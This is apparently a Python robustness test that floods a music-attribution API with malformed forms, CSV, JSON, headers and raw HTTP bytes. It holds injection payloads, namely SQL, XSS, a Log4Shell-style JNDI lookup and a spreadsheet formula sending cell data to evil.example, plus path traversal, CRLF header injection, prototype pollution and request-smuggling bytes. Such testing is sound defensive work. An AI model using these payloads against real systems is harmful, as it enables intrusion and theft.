"""Hostile words, forms, tables, headers and addresses; the answer to each is never the service's own failure."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from itertools import chain, islice, product
from typing import Any
from urllib.parse import quote, urlsplit

import httpx

from bench.hostile import seeds

WORDS: dict[str, bytes] = {
    "nul": b"a\0b",
    "right to left": "\u202egnp.exe\u202c\u2066\u2069".encode(),
    "not UTF-8": b"\xff\xfe\xfa caf\xe9",
    "half a surrogate": b"\xed\xa0\x80",
    "a megabyte": b"x" * 1_000_000,
    "a formula": b'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "another formula": b"@SUM(1+1)*cmd|' /C calc'!A0",
    "a statement": b"'; DROP TABLE attributions; --",
    "a script": b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a format": b"%s%n{0.__class__.__mro__}${jndi:ldap://evil.example/a}{{7*7}}",
    "a header": b"a\r\nSet-Cookie: admin=1\r\n\r\n<html>",
    "a path": b"../../../../etc/passwd",
    "controls": bytes(range(1, 32)),
    "stacked accents": ("Z" + "\u0300" * 300).encode(),
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufeff\u00ad".encode(),
    "blank": b" \t\r\n ",
    "empty": b"",
    "not a number": b"NaN",
    "too large a number": b"1e999",
    "a negative": b"-1",
    "a long number": b"9" * 5_000,
    "an escape": b"\x1b]0;owned\x07\x1b[2J",
}
BOUNDARY = "limit"
TRACK = seeds.files()["WAV PCM_16"]
Answers = Iterator[tuple[str, int, bytes]]


def send(url: str, every: int = 1) -> Answers:
    """Yield the name, status and body of every answer of the service at `url`, or of each so manyth request alone."""
    with httpx.Client(base_url=url, timeout=60) as client:
        requests = chain(forms(client), envelopes(client), songs(client), tables(client), addresses(client))
        for name, request in islice(requests, 0, None, every):
            request.headers.encoding = "latin-1"
            answer = client.send(request)
            yield name, answer.status_code, answer.content
    for name, data in wire().items():
        yield (f"wire: {name}", *_raw(url, data))


def part(name: bytes, value: bytes, more: bytes = b"") -> bytes:
    """Return one part of a form."""
    head = b'--limit\r\nContent-Disposition: form-data; name="' + name + b'"' + more
    return head + b"\r\n\r\n" + value + b"\r\n"


def _form(
    client: httpx.Client, *parts: bytes, boundary: str = BOUNDARY, end: bytes = b"--limit--\r\n"
) -> httpx.Request:
    kind = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    return client.build_request("POST", "/v1/attributions", content=b"".join(parts) + end, headers=kind)


AUDIO = part(b"audio", TRACK, b'; filename="a.wav"')


def forms(client: httpx.Client) -> Iterator[tuple[str, httpx.Request]]:
    """Every field of a track's form, and its file's name, with every hostile word."""
    for (name, word), field in product(
        WORDS.items(), ("prompt", "external_id", "model", "method", "top_k", "unheard-of")
    ):
        yield f"{field}: {name}", _form(client, AUDIO, part(field.encode(), word))
    for name, word in WORDS.items():
        named = word.replace(b"\r", b"%0D").replace(b"\n", b"%0A").replace(b'"', b"%22")
        yield f"file name: {name}", _form(client, part(b"audio", TRACK, b'; filename="' + named + b'"'))
        yield (
            f"file name*: {name}",
            _form(client, part(b"audio", TRACK, b"; filename*=UTF-8''" + quote(word[:9_999]).encode())),
        )
        yield f"field's name: {name}", _form(client, AUDIO, part(named, b"x"))
        request = _form(client, AUDIO)
        request.headers.update(_headers("Idempotency-Key", word))
        yield f"idempotency key: {name}", request
    for name in ("/dev/zero", "/proc/self/mem", "CON", "a.wav/..", "a.wav\u202e3pm.exe"):
        yield f"file name {name!r}", _form(client, part(b"audio", TRACK, b'; filename="' + name.encode() + b'"'))


def envelopes(client: httpx.Client) -> Iterator[tuple[str, httpx.Request]]:
    """Forms whose own make is odd."""
    yield "no end", _form(client, AUDIO, end=b"")
    yield "another boundary", _form(client, AUDIO, boundary="other")
    yield "no boundary", _form(client, AUDIO, boundary="")
    yield "a boundary of 5000", _form(client, AUDIO, boundary="x" * 5_000)
    yield "2000 fields", _form(client, AUDIO, *(part(b"f%d" % number, b"x") for number in range(2_000)))
    yield "the file 20 times", _form(client, *[AUDIO] * 20)
    yield "two prompts", _form(client, AUDIO, part(b"prompt", b"a"), part(b"prompt", b"b"))
    yield "the file as a word", _form(client, part(b"audio", b"words"))
    yield "the file without a name", _form(client, part(b"audio", TRACK, b'; filename=""'))
    yield "a header of 100000", _form(client, part(b"audio", TRACK, b'; filename="a"\r\nX-Long: ' + b"x" * 100_000))
    yield "a part without a name", _form(client, b"--limit\r\nContent-Disposition: form-data\r\n\r\nx\r\n", AUDIO)
    yield "a part without a header", _form(client, b"--limit\r\n\r\nx\r\n", AUDIO)
    yield "a form in a form", _form(client, part(b"audio", AUDIO, b'; filename="a"\r\nContent-Type: multipart/mixed'))
    yield "packed", _form(client, part(b"audio", TRACK, b'; filename="a"\r\nContent-Transfer-Encoding: base64'))
    yield "a charset", _form(client, part(b"_charset_", b"utf-7"), AUDIO)
    for kind in (
        "",
        "text/plain",
        "multipart/form-data",
        "application/json",
        "application/x-www-form-urlencoded",
        "*/*",
    ):
        yield (
            f"sent as {kind!r}",
            client.build_request("POST", "/v1/attributions", content=AUDIO, headers={"Content-Type": kind}),
        )


def songs(client: httpx.Client) -> Iterator[tuple[str, httpx.Request]]:
    """Songs with every hostile word in every fact, and JSON that is none."""
    fields = ("key", "title", "artist", "isrc", "iswc", "upc", "licence", "training_policy", "duration_s")
    for (name, word), field in product(WORDS.items(), fields):
        facts = {"title": "t", "artist": "a", field: word.decode("utf-8", "replace")}
        yield f"song's {field}: {name}", client.build_request("POST", "/v1/songs", json=facts)
    for (name, word), field in product(WORDS.items(), ("party", "role", "ipi", "isni", "share")):
        right: dict[str, Any] = {"party": "p", "role": "author", "share": 1, field: word.decode("utf-8", "replace")}
        yield (
            f"right's {field}: {name}",
            client.build_request("POST", "/v1/songs", json={"title": "t", "artist": "a", "rights": [right]}),
        )
    for name, body in _documents().items():
        yield (
            f"json: {name}",
            client.build_request("POST", "/v1/songs", content=body, headers={"Content-Type": "application/json"}),
        )


def _documents() -> dict[str, bytes]:
    good = json.dumps({"title": "t", "artist": "a"})
    return {
        "100000 brackets": b"[" * 100_000,
        "100000 braces": b'{"a":' * 100_000,
        "half a surrogate": b'{"title": "\\ud800", "artist": "a"}',
        "a nul": b'{"title": "\\u0000", "artist": "a"}',
        "no number": b'{"title": "t", "artist": "a", "duration_s": NaN}',
        "endless": b'{"title": "t", "artist": "a", "duration_s": 1e999}',
        "a long number": b'{"title": "t", "artist": "a", "duration_s": ' + b"9" * 5_000 + b"}",
        "a name twice": b'{"title": "t", "title": ["x"], "artist": "a"}',
        "a mark at the begin": b"\xef\xbb\xbf" + good.encode(),
        "utf-16": good.encode("utf-16"),
        "not utf-8": b'{"title": "\xff", "artist": "a"}',
        "nothing": b"",
        "null": b"null",
        "a list": b"[]",
        "a million rights": b'{"title": "t", "artist": "a", "rights": [' + b"{}," * 10_000 + b"{}]}",
        "proto": b'{"title": "t", "artist": "a", "__proto__": {"admin": true}, "tenant_id": "other", "id": "1"}',
    }


def tables(client: httpx.Client) -> Iterator[tuple[str, httpx.Request]]:
    """CSV with every hostile word in every column, and tables that are none."""
    for (name, word), column in product(WORDS.items(), (b"key", b"title", b"isrc", b"rights", b"duration_s")):
        cell = b'"' + word.replace(b'"', b'""') + b'"'
        yield f"column {column.decode()}: {name}", _table(client, b"title,artist," + column + b"\nt,a," + cell + b"\n")
    for name, word in WORDS.items():
        yield f"column named: {name}", _table(client, b"title,artist," + word + b"\nt,a,b\n")
    odd = {
        "nothing": b"",
        "a mark alone": b"\xef\xbb\xbf",
        "columns alone": b"title,artist\n",
        "an open quote": b'title,artist\n"t,a\n' * 10,
        "10000 columns": b",".join(b"c%d" % n for n in range(10_000)) + b"\n",
        "the same column twice": b"title,title,artist\na,b,c\n",
        "100000 empty lines": b"title,artist\n" + b"\n" * 100_000,
        "50000 commas a line": b"title,artist\n" + b"," * 50_000 + b"\n",
        "carriage returns": b"title,artist\rt,a\r",
        "utf-16": "title,artist\nt,a\n".encode("utf-16"),
        "nul bytes": bytes(10_000),
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(1_000),
    }
    for name, data in odd.items():
        yield f"table: {name}", _table(client, data)


def _table(client: httpx.Client, data: bytes) -> httpx.Request:
    return client.build_request("POST", "/v1/songs/import", content=data, headers={"Content-Type": "text/csv"})


def addresses(client: httpx.Client) -> Iterator[tuple[str, httpx.Request]]:
    """Hostile words in paths, queries and headers."""
    lists = ("/v1/songs", "/v1/attributions", "/v1/models", "/v1/usage")
    for name, word in WORDS.items():
        quoted = quote(word[:3_000], safe="")
        for path in ("/v1/songs/", "/v1/attributions/", "/v1/models/", "/v1/batches/", "/"):
            yield f"{path} {name}", client.build_request("GET", path + quoted)
        for path, field in product(
            lists, ("q", "isrc", "artist", "cursor", "limit", "status", "model", "created_after")
        ):
            yield f"{path}?{field}: {name}", client.build_request("GET", f"{path}?{field}={quoted}")
        for field in ("Prefer", "If-None-Match", "X-Request-ID", "Authorization", "Cookie", "Accept", "Origin", "Host"):
            yield f"{field}: {name}", client.build_request("GET", lists[0], headers=_headers(field, word))
    for method in ("TRACE", "CONNECT", "PROPFIND", "X" * 100, "OPTIONS", "HEAD"):
        yield f"method {method[:9]}", client.build_request(method, "/v1/songs")


def _headers(field: str, word: bytes) -> httpx.Headers:
    """Return what a client library lets through of a word."""
    value = bytes(byte for byte in word[:3_000] if byte >= 32 and byte != 127).strip()
    return httpx.Headers({field.encode(): value or b"x"})


def wire() -> dict[str, bytes]:
    """Requests that no client library sends."""
    head = b"POST /v1/songs HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nConnection: close\r\n"
    return {
        "two lengths": head + b"Content-Length: 2\r\nContent-Length: 20\r\n\r\n{}",
        "length and chunks": head
        + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
        "a negative length": head + b"Content-Length: -1\r\n\r\n{}",
        "a length of words": head + b"Content-Length: many\r\n\r\n{}",
        "a chunk of no size": head + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n",
        "a chunk of all sizes": head + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 30 + b"\r\n{}",
        "a folded header": b"GET /v1/songs HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\nConnection: close\r\n\r\n",
        "a nul in a header": b"GET /v1/songs HTTP/1.1\r\nHost: a\r\nX: a\0b\r\nConnection: close\r\n\r\n",
        "no host": b"GET /v1/songs HTTP/1.1\r\nConnection: close\r\n\r\n",
        "an old version": b"GET /v1/songs HTTP/0.9\r\n\r\n",
        "a new version": b"GET /v1/songs HTTP/9.9\r\nHost: a\r\n\r\n",
        "a space in the address": b"GET /v1/so ngs HTTP/1.1\r\nHost: a\r\n\r\n",
        "bytes in the address": b"GET /v1/\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        "a whole address": b"GET http://other/v1/songs HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        "noise": bytes(range(256)) * 4 + b"\r\n\r\n",
        "a handshake": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    }


def _raw(url: str, data: bytes) -> tuple[int, bytes]:
    """Send bytes; the status of the answer, 0 when the connection was closed without one."""
    place = urlsplit(url)
    with socket.create_connection((place.hostname or "", place.port or 80), timeout=10) as connection:
        try:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            answer = connection.recv(65_536)
        except OSError:
            return 0, b""
    return (int(answer.split()[1]), b"") if answer.startswith(b"HTTP/") else (0, b"")
